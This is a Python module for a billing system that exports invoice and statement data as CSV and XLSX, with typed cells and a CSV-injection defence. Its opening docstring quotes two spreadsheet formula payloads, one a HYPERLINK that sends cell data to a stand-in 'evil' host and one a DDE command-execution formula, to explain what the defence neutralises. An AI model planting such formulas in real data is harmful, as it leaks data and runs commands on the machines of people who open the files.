"""The one way out to a spreadsheet: every CSV and XLSX download is written here, so each one is
typed the same way (money as numbers, dates as dates) and safe to open in Excel or LibreOffice.

Why one module: a member name such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`
is data we did not write. A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and
some read a leading tab or carriage return the same way) as a formula ("CSV injection"). Every
TEXT cell starting with one of those is neutralised by a leading single quote, the OWASP
recommendation, in CSV and XLSX alike; numbers stay numbers (a credit of -12.50 is written as
the number -12.50, never as text). Money is Decimal throughout; openpyxl takes Decimal as it is.

The invoice downloads (`invoice_lines_sheets`, `invoice_lines_table`) live at the bottom: pure
reads of an issued invoice that the web layer, the CLI and jobs can all call.
"""

from __future__ import annotations

import csv
import enum
import io
import itertools
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Literal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from sqlalchemy import or_, select
from sqlalchemy.orm import Session

from billing_core.billing.adjustments import reason_label
from billing_core.billing.invoices import invoice_lines_query, period_label
from billing_core.models import Invoice, InvoiceLine, Member, Plan, Product
from billing_core.models.enums import BillingMethod, InvoiceSection, InvoiceStatus
from billing_core.money import ZERO, D, cents

ColumnKind = Literal["text", "money", "rate", "date", "period", "integer"]
KINDS: frozenset[str] = frozenset({"text", "money", "rate", "date", "period", "integer"})

# What a spreadsheet may read as the start of a formula (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Excel number formats. Negatives carry a minus sign, the screen convention (JOURNEYS.md).
MONEY_FORMAT = "#,##0.00;-#,##0.00"
RATE_FORMAT = "#,##0.00####"  # 112.40, 0.225, 0.0125: at least two places, up to six
INTEGER_FORMAT = "0"
DATE_FORMAT = "yyyy-mm-dd"
PERIOD_FORMAT = "mmm yyyy"

_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")
_WIDTH_SAMPLE_ROWS = 500
_MIN_WIDTH, _MAX_WIDTH = 8, 60


@dataclass(frozen=True)
class Column:
    """One column of an export: its header and what its cells hold.

    text: str (anything else is str()-ed; enums give their value), neutralised.
    money: Decimal (or str/int; floats are refused) rounded to the cent.
    rate: Decimal as stored (0.225 stays 0.225). date: a date. period: a coverage month (the
    date of its first day). integer: int. None is an empty cell in every kind."""

    header: str
    kind: ColumnKind = "text"

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"unknown column kind {self.kind!r} for {self.header!r}")


@dataclass
class Sheet:
    """One table: a sheet of a workbook, or the whole of a CSV. `rows` may be any iterable
    (a generator streams); each row has one value per column."""

    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence]


def neutralise(text: str) -> str:
    """`text`, with a leading `'` when a spreadsheet could read it as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _text(value) -> str:
    if isinstance(value, enum.Enum):
        value = value.value
    return neutralise(value if isinstance(value, str) else str(value))


def _money(value) -> Decimal:
    amount = cents(D(value))
    return ZERO if amount == 0 else amount  # never -0.00


def _rate(value) -> Decimal:
    return D(value)


def _integer(value) -> int:
    if isinstance(value, bool) or not isinstance(value, int | Decimal):
        raise TypeError(f"integer column given {type(value).__name__} {value!r}")
    if isinstance(value, Decimal):
        if value != value.to_integral_value():
            raise ValueError(f"integer column given {value!r}")
        return int(value)
    return value


def _day(value) -> date:
    if isinstance(value, datetime):
        return value.date()
    if not isinstance(value, date):
        raise TypeError(f"date column given {type(value).__name__} {value!r}")
    return value


def _plain(value: Decimal) -> str:
    """A rate as written on a rate sheet, never in exponent form: 0.225, 112.40, 100."""
    text = format(value.normalize(), "f")
    if "." not in text:
        return text
    whole, places = text.split(".")
    return f"{whole}.{places.ljust(2, '0')}"


# --------------------------------------------------------------------------- CSV


def _csv_cell(kind: str, value) -> str:
    if value is None:
        return ""
    if kind == "text":
        return _text(value)
    if kind == "money":
        return f"{_money(value):.2f}"
    if kind == "rate":
        return _plain(_rate(value))
    if kind == "integer":
        return str(_integer(value))
    if kind == "date":
        return _day(value).isoformat()
    return f"{_day(value):%Y-%m}"  # period: ISO 8601 year-month


def csv_bytes(columns: Sequence[Column], rows: Iterable[Sequence]) -> bytes:
    """A CSV file: a header row, then `rows`. UTF-8 with a byte-order mark (so Excel reads names
    with accents right), CRLF line ends, dates ISO (2027-01-15), periods ISO year-month
    (2027-01), money plain to the cent (-12.50, no thousands separator), text neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(c.header) for c in columns])
    kinds = [c.kind for c in columns]
    for number, row in enumerate(rows, start=1):
        if len(row) != len(kinds):
            raise ValueError(f"row {number} has {len(row)} values for {len(kinds)} columns")
        writer.writerow([_csv_cell(kind, value) for kind, value in zip(kinds, row, strict=True)])
    return buffer.getvalue().encode("utf-8-sig")


# --------------------------------------------------------------------------- XLSX


def _xlsx_value(kind: str, value):
    if value is None:
        return None
    if kind == "text":
        # openpyxl refuses control characters XML cannot hold; drop them rather than fail.
        return ILLEGAL_CHARACTERS_RE.sub("", _text(value))
    if kind == "money":
        return _money(value)
    if kind == "rate":
        return _rate(value)
    if kind == "integer":
        return _integer(value)
    return _day(value)


_NUMBER_FORMATS = {
    "money": MONEY_FORMAT,
    "rate": RATE_FORMAT,
    "integer": INTEGER_FORMAT,
    "date": DATE_FORMAT,
    "period": PERIOD_FORMAT,
}


def _display_width(kind: str, value) -> int:
    """Roughly how many characters the cell shows, for the column width."""
    if value is None:
        return 0
    if kind == "money":
        return len(f"{value:,.2f}")
    if kind == "rate":
        return len(_plain(value)) + 1
    if kind == "date":
        return 10
    if kind == "period":
        return 8
    if kind == "integer":
        return len(str(value))
    return max((len(line) for line in value.split("\n")), default=0)


def _sheet_titles(sheets: Sequence[Sheet]) -> list[str]:
    """Titles Excel accepts: no []:*?/\\, at most 31 characters, unique (case-insensitively)."""
    titles: list[str] = []
    seen: set[str] = set()
    for sheet in sheets:
        base = _SHEET_TITLE_BAD.sub(" ", sheet.title).strip().strip("'")[:31] or "Sheet"
        title, n = base, 2
        while title.lower() in seen:
            suffix = f" ({n})"
            title, n = base[: 31 - len(suffix)] + suffix, n + 1
        seen.add(title.lower())
        titles.append(title)
    return titles


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook, one worksheet per Sheet in order. Money and rates are numbers (money
    `#,##0.00`, negatives with a minus sign), dates real dates (`yyyy-mm-dd`), periods the
    date of the month's first day shown `mmm yyyy`; a bold header row that is frozen and
    carries an autofilter; column widths from the header and the first 500 rows."""
    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    # Write-only mode streams rows to the file instead of holding every cell object.
    workbook = Workbook(write_only=True)
    for sheet, title in zip(sheets, _sheet_titles(sheets), strict=True):
        _write_sheet(workbook.create_sheet(title), sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="EEF1F6")
_HEADER_ALIGNMENT = Alignment(vertical="top")


def _write_sheet(ws, sheet: Sheet) -> None:
    kinds = [c.kind for c in sheet.columns]
    formats = [_NUMBER_FORMATS.get(kind) for kind in kinds]
    rows = iter(sheet.rows)
    sample = [
        _xlsx_row(kinds, row, number)
        for number, row in enumerate(itertools.islice(rows, _WIDTH_SAMPLE_ROWS), start=1)
    ]
    # In write-only mode widths and panes must be set before the first row is written.
    for index, column in enumerate(sheet.columns):
        widest = max(
            [len(column.header) + 3]  # room for the autofilter button
            + [_display_width(column.kind, row[index]) + 1 for row in sample]
        )
        ws.column_dimensions[get_column_letter(index + 1)].width = min(
            max(widest, _MIN_WIDTH), _MAX_WIDTH
        )
    ws.freeze_panes = "A2"
    header = []
    for column in sheet.columns:
        cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("", neutralise(column.header)))
        cell.font, cell.fill, cell.alignment = _HEADER_FONT, _HEADER_FILL, _HEADER_ALIGNMENT
        header.append(cell)
    ws.append(header)
    count = 0
    for values in sample:
        ws.append(_styled(ws, values, formats))
        count += 1
    for number, row in enumerate(rows, start=count + 1):
        ws.append(_styled(ws, _xlsx_row(kinds, row, number), formats))
        count += 1
    ws.auto_filter.ref = f"A1:{get_column_letter(max(len(kinds), 1))}{count + 1}"


def _xlsx_row(kinds: list[str], row: Sequence, number: int) -> list:
    if len(row) != len(kinds):
        raise ValueError(f"row {number} has {len(row)} values for {len(kinds)} columns")
    return [_xlsx_value(kind, value) for kind, value in zip(kinds, row, strict=True)]


def _styled(ws, values: list, formats: list[str | None]) -> list:
    """Plain values as they are; numbers and dates as cells carrying their number format."""
    out = []
    for value, number_format in zip(values, formats, strict=True):
        if number_format is None or value is None:
            out.append(value)
        else:
            cell = WriteOnlyCell(ws, value)
            cell.number_format = number_format
            out.append(cell)
    return out


# --------------------------------------------------------------------------- invoice downloads

SECTION_LABELS = {
    InvoiceSection.PREMIUM: "Premium",
    InvoiceSection.RETRO: "Retro adjustment",
    InvoiceSection.FEE: "Fee",
}

MEMBER_LINE_COLUMNS = (
    Column("Line", "integer"),
    Column("Member ID"),
    Column("Employee ID"),
    Column("Last name"),
    Column("First name"),
    Column("Product"),
    Column("Plan"),
    Column("Coverage month", "period"),
    Column("Tier"),
    Column("Volume/benefit", "money"),
    Column("Rate", "rate"),
    Column("Amount", "money"),
    Column("Description"),
)

ADJUSTMENT_COLUMNS = (
    Column("Section"),
    Column("Coverage month", "period"),
    Column("Member ID"),
    Column("Name"),
    Column("Product"),
    Column("Reason"),
    Column("Amount", "money"),
    Column("Description"),
)

SUMMARY_COLUMNS = (Column("Item"), Column("Amount", "money"))

ALL_LINE_COLUMNS = (
    Column("Section"),
    Column("Line", "integer"),
    Column("Member ID"),
    Column("Employee ID"),
    Column("Last name"),
    Column("First name"),
    Column("Product"),
    Column("Plan"),
    Column("Coverage month", "period"),
    Column("Tier"),
    Column("Volume/benefit", "money"),
    Column("Rate", "rate"),
    Column("Reason"),
    Column("Amount", "money"),
    Column("Description"),
)


def premium_heading(invoice: Invoice) -> str:
    if invoice.billing_method is BillingMethod.SELF_BILL:
        return "Expected premium (self-administered)"
    return "Current premium"


def invoice_summary_rows(
    invoice: Invoice, premium_label: str | None = None
) -> list[tuple[str, Decimal]]:
    """The invoice's bottom line as (label, amount) rows that add up to the total due: payments
    and credits since the last bill are negative. `premium_label` overrides the premium row's."""
    return [
        ("Balance forward from the last bill", invoice.balance_forward),
        ("Payments and credits since the last bill", -invoice.payments_credits),
        (premium_label or premium_heading(invoice), invoice.current_premium),
        ("Retro adjustments", invoice.retro_total),
        ("Fees", invoice.fees_total),
        ("Total due", invoice.total_due),
    ]


def _member_filter(subgroup_ids: frozenset[int] | None):
    """Lines a subgroup-limited user may see: their members' lines and group-level lines."""
    if subgroup_ids is None:
        return None
    return or_(InvoiceLine.member_id.is_(None), Member.subgroup_id.in_(subgroup_ids))


def _member_line_rows(session: Session, invoice: Invoice, subgroup_ids: frozenset[int] | None):
    query = invoice_lines_query(invoice, subgroup_ids=subgroup_ids).with_only_columns(
        InvoiceLine.line_number,
        Member.member_key,
        Member.employee_id,
        Member.last_name,
        Member.first_name,
        Product.name,
        Plan.name,
        InvoiceLine.coverage_month,
        InvoiceLine.tier,
        InvoiceLine.volume,
        InvoiceLine.rate,
        InvoiceLine.amount,
        InvoiceLine.description,
        maintain_column_froms=True,
    )
    for row in session.execute(query):
        yield tuple(row)


def adjustment_line_rows(
    session: Session, invoice: Invoice, subgroup_ids: frozenset[int] | None = None
) -> list[tuple]:
    """Retro and fee lines as ADJUSTMENT_COLUMNS rows, in invoice order. A subgroup-limited user
    sees their members' lines and the group-level ones (no member)."""
    query = (
        select(
            InvoiceLine.section,
            InvoiceLine.coverage_month,
            Member.member_key,
            Member.last_name,
            Member.first_name,
            Product.name,
            InvoiceLine.reason_code,
            InvoiceLine.amount,
            InvoiceLine.description,
        )
        .outerjoin(Member, Member.id == InvoiceLine.member_id)
        .outerjoin(Plan, Plan.id == InvoiceLine.plan_id)
        .outerjoin(Product, Product.id == Plan.product_id)
        .where(
            InvoiceLine.invoice_id == invoice.id,
            InvoiceLine.section.in_([InvoiceSection.RETRO, InvoiceSection.FEE]),
        )
        .order_by(InvoiceLine.line_number)
    )
    limit = _member_filter(subgroup_ids)
    if limit is not None:
        query = query.where(limit)
    return [
        (
            SECTION_LABELS[section],
            month,
            key,
            f"{last}, {first}" if last is not None else "",
            product,
            reason_label(reason),
            amount,
            description,
        )
        for section, month, key, last, first, product, reason, amount, description in (
            session.execute(query)
        )
    ]


def invoice_lines_sheets(
    session: Session, invoice: Invoice, subgroup_ids: frozenset[int] | None = None
) -> list[Sheet]:
    """The invoice as a workbook: "Member lines" (every premium line, streamed), "Adjustments and
    fees", and "Summary" (the bottom line, adding up to the total due). The CSV download is
    `invoice_lines_table` (every line in one table), not one of these sheets. `subgroup_ids`
    limits the member rows to those subgroups' members (and group-level lines); the summary
    stays the whole invoice's, and says so. The member lines are read while the workbook is
    written, so write it while `session` is open."""
    summary: list[tuple] = list(invoice_summary_rows(invoice))
    if invoice.status is InvoiceStatus.VOID:
        summary.insert(0, (f"VOID: do not pay. Reason: {invoice.void_reason}", None))
    if subgroup_ids is not None:
        summary.append(
            ("Member lines are limited to your locations; totals are the whole bill's", None)
        )
    return [
        Sheet(
            "Member lines", MEMBER_LINE_COLUMNS, _member_line_rows(session, invoice, subgroup_ids)
        ),
        Sheet(
            "Adjustments and fees",
            ADJUSTMENT_COLUMNS,
            adjustment_line_rows(session, invoice, subgroup_ids),
        ),
        Sheet("Summary", SUMMARY_COLUMNS, summary),
    ]


def invoice_lines_table(
    session: Session, invoice: Invoice, subgroup_ids: frozenset[int] | None = None
) -> Sheet:
    """Every line of the invoice as one flat table (the CSV download): premium, retro and fee
    lines in invoice order, told apart by the Section column; same subgroup rule as the sheets."""
    query = (
        select(
            InvoiceLine.section,
            InvoiceLine.line_number,
            Member.member_key,
            Member.employee_id,
            Member.last_name,
            Member.first_name,
            Product.name,
            Plan.name,
            InvoiceLine.coverage_month,
            InvoiceLine.tier,
            InvoiceLine.volume,
            InvoiceLine.rate,
            InvoiceLine.reason_code,
            InvoiceLine.amount,
            InvoiceLine.description,
        )
        .outerjoin(Member, Member.id == InvoiceLine.member_id)
        .outerjoin(Plan, Plan.id == InvoiceLine.plan_id)
        .outerjoin(Product, Product.id == Plan.product_id)
        .where(InvoiceLine.invoice_id == invoice.id)
        .order_by(InvoiceLine.line_number)
    )
    limit = _member_filter(subgroup_ids)
    if limit is not None:
        query = query.where(limit)

    def rows():
        for section, *middle, reason, amount, description in session.execute(query):
            yield (SECTION_LABELS[section], *middle, reason_label(reason), amount, description)

    return Sheet(f"Invoice {invoice.invoice_number}", ALL_LINE_COLUMNS, rows())


# --------------------------------------------------------------------------- statement downloads

STATEMENT_LINE_COLUMNS = (
    Column("Coverage month", "period"),
    Column("Period"),
    Column("Product"),
    Column("Billed", "money"),
    Column("Adjusted", "money"),
    Column("Paid", "money"),
    Column("Other credits", "money"),
    Column("Balance", "money"),
    Column("Running balance", "money"),
)
STATEMENT_SUMMARY_COLUMNS = (Column("Item"), Column("Amount", "money"), Column("Date", "date"))
STATEMENT_INVOICE_COLUMNS = (
    Column("Invoice"),
    Column("Coverage month", "period"),
    Column("Period"),
    Column("Issued", "date"),
    Column("Due", "date"),
    Column("Status"),
    Column("Charges", "money"),
    Column("Paid", "money"),
    Column("Other credits", "money"),
    Column("Balance", "money"),
)
STATEMENT_PAYMENT_COLUMNS = (
    Column("Received", "date"),
    Column("Method"),
    Column("Reference"),
    Column("Payer"),
    Column("Status"),
    Column("Amount", "money"),
    Column("Applied to"),
    Column("Applied", "money"),
    Column("Left as credit", "money"),
    Column("Refunded", "money"),
    Column("Note"),
)
STATEMENT_AGING_COLUMNS = (
    Column("Days past due"),
    Column("Amount", "money"),
    Column("As of", "date"),
)
STATEMENT_MONTH_COLUMNS = (
    Column("Coverage month", "period"),
    Column("Billed", "money"),
    Column("Paid", "money"),
    Column("Open", "money"),
)
# The CSV download is one table: the statement's section by this key (default "lines").
STATEMENT_SECTIONS = ("lines", "summary", "invoices", "payments", "aging", "months")


def _day_before(day: date) -> date:
    return date.fromordinal(day.toordinal() - 1)


def statement_summary_rows(statement) -> list[tuple]:
    """The statement's bottom line as (item, amount, date) rows: what was owed before, what
    was billed, paid and credited (as negatives), what is owed and the credit on the end date.
    The amounts from "Owed for earlier periods" to "Other credits" add up to "Balance owed"."""
    s = statement
    earlier = f"periods before {s.start:%b %Y}"
    rows: list[tuple] = [
        (f"Group {s.group.group_number} {s.group.name}", None, None),
        ("Coverage periods from", None, s.start),
        ("Balances as of", None, s.end),
        (f"Owed for {earlier}", s.opening_balance, _day_before(s.start)),
    ]
    if s.earlier_paid:
        rows.append((f"Paid since on {earlier}", -s.earlier_paid, s.end))
    if s.earlier_credited:
        rows.append((f"Other credits since on {earlier}", -s.earlier_credited, s.end))
    rows += [
        ("Billed (premium)", s.billed, None),
        ("Adjusted (retro adjustments and fees)", s.adjusted, None),
        ("Paid", -s.paid, None),
        ("Other credits (write-offs, voids)", -s.credited, None),
        ("Balance owed", s.closing_balance, s.end),
        ("Credit available (payments not yet applied)", s.credit, s.end),
        ("Net due after using the credit", s.net_due, s.end),
    ]
    if s.limited:  # a location's contact: the group's credit is not theirs to see
        rows[-2:] = [
            ("Limited to your locations' bills and payments; credit not shown", None, None)
        ]
    return rows


def statement_line_rows(statement):
    """STATEMENT_LINE_COLUMNS rows: what was owed before the range (and paid on it since),
    then one row per coverage period and product."""
    s = statement
    yield (
        None,
        "Brought forward",
        f"Owed on {_day_before(s.start):%b} {_day_before(s.start).day}, "
        f"{_day_before(s.start).year} for earlier periods",
        None,
        None,
        None,
        None,
        s.opening_balance,
        s.opening_balance,
    )
    if s.earlier_paid or s.earlier_credited:
        yield (
            None,
            f"Before {s.start:%b %Y}",
            "Paid or credited since on earlier periods",
            None,
            None,
            s.earlier_paid,
            s.earlier_credited,
            -(s.earlier_paid + s.earlier_credited),
            s.earlier_balance,
        )
    for line in s.lines:
        yield (
            line.period_start,
            line.period,
            line.product,
            line.billed,
            line.adjusted,
            line.paid,
            line.credited,
            line.balance,
            line.running_balance,
        )


def statement_invoice_rows(statement):
    for row in statement.invoices:
        invoice = row.invoice
        if row.void_on_end:
            status = "Void"
        elif row.balance <= 0:
            status = "Paid" if row.charges > 0 else "No payment due"
        elif invoice.due_on < statement.end:
            status = "Past due"
        else:
            status = "Open"
        yield (
            invoice.invoice_number,
            invoice.period_start,
            period_label(invoice.period_start, invoice.period_end),
            invoice.issued_on,
            invoice.due_on,
            status,
            row.charges,
            row.paid,
            row.credited,
            row.balance,
        )


def statement_payment_rows(statement):
    for p in statement.payments:
        payment = p.payment
        notes = []
        if p.from_suspense:
            notes.append("identified from suspense")
        if payment.status_reason:
            notes.append(payment.status_reason)
        yield (
            payment.received_on,
            p.method_label,
            payment.reference or "",
            payment.payer_name or "",
            p.status_label,
            payment.amount,
            "; ".join(f"{number} {amount:,.2f}" for number, amount in p.applied),
            sum((amount for _, amount in p.applied), ZERO),
            p.unallocated,
            p.refunded,
            "; ".join(notes),
        )


def statement_sheets(statement) -> list[Sheet]:
    """The statement as workbook sheets, one per section (`billing_core.reports.statements.Statement`):
    Summary, By period and product, Invoices, Payments, Aging, By month."""
    s = statement
    return [
        Sheet("Summary", STATEMENT_SUMMARY_COLUMNS, statement_summary_rows(s)),
        Sheet("By period and product", STATEMENT_LINE_COLUMNS, statement_line_rows(s)),
        Sheet("Invoices", STATEMENT_INVOICE_COLUMNS, statement_invoice_rows(s)),
        Sheet("Payments", STATEMENT_PAYMENT_COLUMNS, statement_payment_rows(s)),
        Sheet(
            "Aging",
            STATEMENT_AGING_COLUMNS,
            [(label, amount, s.end) for label, amount in s.aging_rows],
        ),
        Sheet(
            "By month",
            STATEMENT_MONTH_COLUMNS,
            [(m.month, m.billed, m.paid, m.open) for m in s.months],
        ),
    ]


def statement_table(statement, section: str = "lines") -> Sheet:
    """One section of the statement as a flat table (a CSV download); see STATEMENT_SECTIONS."""
    if section not in STATEMENT_SECTIONS:
        raise ValueError(f"unknown statement section {section!r}")
    order = ("summary", "lines", "invoices", "payments", "aging", "months")  # statement_sheets
    return statement_sheets(statement)[order.index(section)]
